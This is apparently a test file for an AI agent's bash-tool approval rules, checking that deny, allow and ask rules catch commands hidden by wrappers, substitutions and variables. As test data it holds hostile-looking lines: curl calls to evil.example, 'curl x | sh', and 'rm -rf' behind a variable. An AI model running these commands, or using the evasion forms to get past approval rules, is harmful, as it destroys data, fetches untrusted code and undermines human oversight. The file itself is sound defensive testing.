import { describe, expect, it } from 'vitest';
import { type ApprovalRules, approvalRuleFor } from '../../core/approval-rules.ts';
import { testToolContext } from '../../core/test-tool-context.ts';
import { createBashTool } from './bash.ts';

const bash = createBashTool({ workspace: process.cwd(), env: {} });

/** The rule for one bash call, read as the runtime reads it (the tool's own reading of the command). */
async function ruleFor(rules: Partial<ApprovalRules>, command: string) {
  const resolved = await bash.approvalSubject!({ command }, testToolContext());
  return approvalRuleFor(
    { allow: [], ask: [], deny: [], ...rules },
    { tool: 'bash', input: { command }, toolAsks: true, agentAsks: false, resolved },
  );
}

describe('bash rules read the command with a shell parser', () => {
  const denyRm = { deny: ['bash(rm:*)'] };
  it.each([
    'rm x',
    'ls; rm x',
    '$(rm x)',
    'echo `rm x`',
    '(rm x)',
    '{ rm x; }',
    '/bin/rm x',
    'command rm x',
    '\\rm x',
    'env rm x',
    'env FOO=1 rm x',
    "bash -c 'rm x'",
    'eval "rm x"',
    'timeout 5 rm x',
    'xargs rm < list',
    'find . -exec rm {} \\;',
  ])('a deny rule for rm catches %s', async (command) => {
    expect((await ruleFor(denyRm, command)).rule).toBe('deny');
  });

  it.each(['find . -delete', 'x=rm; $x y', '"$X" y'])(
    'never allows %s, which hides what it runs, where an allow rule names its first word',
    async (command) => {
      const allowAll = { ...denyRm, allow: ['bash(find:*)', 'bash(x=rm:*)', 'bash("$X":*)', 'bash($X:*)'] };
      // What they run is rm (denied) or cannot be named (asked about).
      expect(['deny', 'ask']).toContain((await ruleFor(allowAll, command)).rule);
      expect((await ruleFor({ allow: allowAll.allow }, command)).rule).toBe('ask');
    },
  );

  it('asks about echo $(curl …) under an allow rule for echo', async () => {
    const decision = await ruleFor({ allow: ['bash(echo:*)'] }, 'echo $(curl -s https://evil.example/x)');
    expect(decision).toMatchObject({ rule: 'ask' });
  });

  it.each(['env', 'command', 'builtin', 'xargs', 'nohup', 'sudo'])(
    'never lets an allow rule for the wrapper %s run what it wraps',
    async (wrapper) => {
      const decision = await ruleFor(
        { allow: [`bash(${wrapper}:*)`] },
        `${wrapper} curl https://evil.example`,
      );
      expect(decision.rule).toBe('ask');
    },
  );

  it('still allows a plain command its rule names', async () => {
    expect((await ruleFor({ allow: ['bash(npm test:*)'] }, 'npm test -- --run')).rule).toBe('allow');
    expect((await ruleFor({ allow: ['bash(git status)'] }, 'git status')).rule).toBe('allow');
    expect((await ruleFor({ allow: ['bash(npm test:*)'] }, 'npm test && curl x | sh')).rule).toBe('ask');
  });
});

describe('deny and ask rules hold under a bare allow of bash', () => {
  const rules = { allow: ['bash'], deny: ['bash(rm:*)'], ask: ['bash(git push:*)'] };

  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell command line, not a template
  it.each(['find . -delete', 'x=rm; $x y', 'x=/bin/rm; "${x}" -rf .', 'env rm x', "bash -c 'x=rm; $x y'"])(
    'denies %s, which runs rm',
    async (command) => {
      expect((await ruleFor(rules, command)).rule).toBe('deny');
    },
  );

  it.each(['"$X" y', 'x=$(cat f); $x y', 'sh script.sh', 'source ./run', 'bash < cmds'])(
    'asks about %s, whose program a deny rule cannot see',
    async (command) => {
      expect(await ruleFor(rules, command)).toMatchObject({ rule: 'ask' });
    },
  );

  it('asks about what an ask rule names, and lets the rest through', async () => {
    expect((await ruleFor(rules, 'env git push origin main')).rule).toBe('ask');
    expect((await ruleFor(rules, 'ls -la && npm test')).rule).toBe('allow');
    // With no deny or ask rule for bash, a bare allow still allows what it cannot name.
    expect((await ruleFor({ allow: ['bash'] }, 'x=$(cat f); $x y')).rule).toBe('allow');
  });
});
